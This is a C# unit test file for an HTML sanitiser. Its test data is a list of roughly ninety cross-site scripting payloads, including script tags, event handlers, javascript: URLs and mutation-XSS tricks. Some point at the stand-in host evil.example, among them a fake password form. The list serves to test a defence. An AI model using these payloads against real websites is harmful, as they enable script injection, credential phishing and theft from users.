using Agon.Portal.Text.Rich;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;

namespace Agon.Portal.Tests.Text.Rich;

public sealed class HtmlCleanerTests
{
    /// <summary>Ways to make a browser run something, by the trick they rely on.</summary>
    public static TheoryData<string> Attacks =>
    [
        // plain script, in the ways it can be written
        "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script\n>alert(1)</script >",
        "<script/src=data:,alert(1)>", "<script x>alert(1)</script y>", "<<script>alert(1)//<</script>",
        // handlers
        "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "<p onclick=alert(1) onmouseover='alert(1)'>x</p>", "<a href=# onfocus=alert(1) autofocus>x</a>", "<td background=x onbegin=alert(1)>", "<x contenteditable onblur=alert(1)>x",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<img src=`x` onerror=`alert(1)`>", "<a title=\"a onmouseover=alert(1) \">x</a>",
        // addresses
        "<a href=javascript:alert(1)>x</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href='java&#10;script:alert(1)'>x</a>",
        "<a href='&#106;&#97;vascript&colon;alert(1)'>x</a>", "<a href=' &#14; javascript:alert(1)'>x</a>", "<a href='\u0001javascript:alert(1)'>x</a>",
        "<a href='vbscript:msgbox(1)'>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='file:///etc/passwd'>x</a>",
        "<a href='blob:https://x/y'>x</a>", "<a href='view-source:https://x'>x</a>", "<img src='data:image/svg+xml;base64,PHN2Zz4='>", "<img src='javascript:alert(1)'>",
        "<a href='//evil.example/'>x</a>", "<a href='\\\\evil.example\\'>x</a>", "<a href='/\\evil.example'>x</a>", "<a xlink:href='javascript:alert(1)'>x</a>",
        "<img src='//evil.example/pixel.png'>", "<img src='https://evil.example/pixel.png'>", "<img src=/ok.png srcset='https://evil.example/x 2x'>",
        // elements that load, ask or jump
        "<iframe src=//evil.example></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x.swf></object>", "<embed src=x.swf>", "<applet code=x></applet>",
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href='//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
        "<form action=//evil.example><input name=password type=password><button>Sign in</button></form>", "<button formaction=javascript:alert(1)>x</button>",
        "<isindex action=javascript:alert(1) type=image>", "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<frameset onload=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>", "<select autofocus onfocus=alert(1)><option>x</select>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        // style
        "<style>@import '//evil.example/x.css';</style>", "<p style='background:url(javascript:alert(1))'>x</p>", "<div style='position:fixed;inset:0'>x</div>",
        "<p style='width:expression(alert(1))'>x</p>",
        // foreign content, and what changes its meaning when parsed twice
        "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<template><script>alert(1)</script></template>", "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">", "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
        "<!--><img src=x onerror=alert(1)>-->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?><script>alert(1)</script>",
        "<plaintext><script>alert(1)</script>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "&lt;script&gt;alert(1)&lt;/script&gt;",
        // taking the place of the page's own things
        "<a id=main name=body>x</a>", "<img name=cookie>", "<form id=test><input name=attributes></form>", "<div id=error-summary class='flash menu'>x</div>",
        "</div></main><footer>x</footer>", "<p data-events=/x data-live data-copy=main>x</p>",
    ];

    [Theory]
    [MemberData(nameof(Attacks))]
    public void nothing_that_acts_comes_through(string attack)
    {
        var cleaned = HtmlCleaner.Clean(attack);

        ShouldBeHarmless(cleaned);
        ShouldBeHarmless(HtmlCleaner.Clean(RichText.FromMarkdown(attack).ToString()!));
    }

    [Theory]
    [MemberData(nameof(Attacks))]
    public void parsing_what_was_written_changes_nothing(string attack)
    {
        var once = HtmlCleaner.Clean(attack);

        new HtmlParser().ParseDocument($"<!doctype html><body>{once}").Body!.TextContent
            .ShouldBe(new HtmlParser().ParseDocument($"<!doctype html><body>{HtmlCleaner.Clean(once)}").Body!.TextContent);
    }

    [Fact]
    public void plain_prose_stays_as_it_is()
    {
        const string prose = "<p>A <strong>bold</strong> and <em>kind</em> word, H<sub>2</sub>O.</p><ul><li>one</li></ul><table tabindex=\"0\"><thead><tr><th>x</th></tr></thead></table>";

        HtmlCleaner.Clean(prose).ShouldBe(prose);
    }

    [Fact]
    public void an_element_nobody_named_leaves_its_text() => HtmlCleaner.Clean("<center><font color=red>Hi</font></center>").ShouldBe("Hi");

    [Fact]
    public void links_to_other_sites_are_followed_without_telling_from_where() =>
        HtmlCleaner.Clean("<a href=\"https://example.org/a?b=1&amp;c\" target=_blank>x</a>")
            .ShouldBe("<a href=\"https://example.org/a?b=1&amp;c\" rel=\"nofollow noopener noreferrer\">x</a>");

    [Theory]
    [InlineData("/competitions/iris")]
    [InlineData("data/train.csv?x=a:b")]
    [InlineData("../x")]
    [InlineData("?page=2")]
    public void links_within_the_site_stay(string address) => HtmlCleaner.Clean($"<a href=\"{address}\">x</a>").ShouldBe($"<a href=\"{address}\">x</a>");

    [Fact]
    public void fragments_and_ids_meet_under_a_prefix() =>
        HtmlCleaner.Clean("<a href='#fn:1'>1</a><p id='fn:1'>x</p>").ShouldBe("<a href=\"#text-fn-1\">1</a><p id=\"text-fn-1\">x</p>");

    [Fact]
    public void a_picture_within_the_text_stays() =>
        HtmlCleaner.Clean("<img src='data:image/png;base64,iVBORw0KGgo=' alt=dot>").ShouldBe("<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">");

    [Fact]
    public void a_picture_on_another_host_becomes_a_link() =>
        HtmlCleaner.Clean("<img src='https://example.org/x.png' alt='a map'>")
            .ShouldBe("<a href=\"https://example.org/x.png\" rel=\"nofollow noopener noreferrer\">Picture: a map</a>");

    [Fact]
    public void a_picture_without_words_is_decoration() => HtmlCleaner.Clean("<img src=/x.png>").ShouldBe("<img src=\"/x.png\" alt=\"\">");

    [Theory]
    [InlineData("<h1>a</h1><h2>b</h2>", "<h2>a</h2><h3>b</h3>")]
    [InlineData("<h3>a</h3><h4>b</h4><h3>c</h3>", "<h2>a</h2><h3>b</h3><h2>c</h2>")]
    [InlineData("<h1>a</h1><h4>b</h4><h5>c</h5>", "<h2>a</h2><h3>b</h3><h4>c</h4>")]
    public void headings_start_at_the_second_level_and_skip_none(string given, string shown) => HtmlCleaner.Clean(given).ShouldBe(shown);

    [Fact]
    public void columns_keep_their_alignment_without_a_style() =>
        HtmlCleaner.Clean("<table><tbody><tr><td style=\"text-align: right;\">1</td></tr></tbody></table>").ShouldBe("<table tabindex=\"0\"><tbody><tr><td class=\"right\">1</td></tr></tbody></table>");

    [Fact]
    public void preformatted_text_keeps_its_first_empty_line() => HtmlCleaner.Clean("<pre>\n\na</pre>").ShouldBe("<pre tabindex=\"0\">\n\na</pre>");

    [Fact]
    public void what_is_nested_too_deeply_is_left_out()
    {
        var cleaned = HtmlCleaner.Clean(string.Concat(Enumerable.Repeat("<div>", 5000)) + "deep");

        cleaned.ShouldNotContain("deep");
        cleaned.Split("<div>").Length.ShouldBe(HtmlCleaner.MaxDepth + 1);
    }

    private static void ShouldBeHarmless(string html)
    {
        var body = new HtmlParser().ParseDocument($"<!doctype html><body><div id=around>{html}</div>").Body!;
        body.Children.Length.ShouldBe(1, "the text must not leave the element it is shown in");
        foreach (var element in body.Children[0].QuerySelectorAll("*"))
        {
            AllowedHtml.Elements.ShouldContain(element.LocalName, html);
            element.Attributes.ShouldAllBe(a => IsHarmless(a), html);
        }
    }

    private static bool IsHarmless(IAttr attribute) => attribute.LocalName switch
    {
        "href" => attribute.Value.StartsWith('#') || SafeAddress.ForLink(attribute.Value) == attribute.Value,
        "src" => SafeAddress.ForImage(attribute.Value) == attribute.Value,
        "id" => attribute.Value.StartsWith(HtmlCleaner.IdPrefix, StringComparison.Ordinal),
        "class" => attribute.Value.Split(' ').All(AllowedHtml.Classes.Contains),
        "title" or "alt" or "rel" or "open" => true,
        _ => false,
    };
}
